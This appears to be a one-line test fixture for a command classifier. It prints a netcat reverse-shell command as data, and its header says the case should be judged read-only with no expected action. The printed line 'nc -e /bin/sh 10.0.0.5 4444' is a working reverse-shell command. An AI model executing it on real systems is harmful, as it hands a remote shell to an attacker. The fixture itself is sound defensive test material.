# expect: none
# read-only: true
# source: DESIGN.md section 2: read-only list
# technique: printf of a reverse-shell line as data
printf '%s\n' 'nc -e /bin/sh 10.0.0.5 4444'
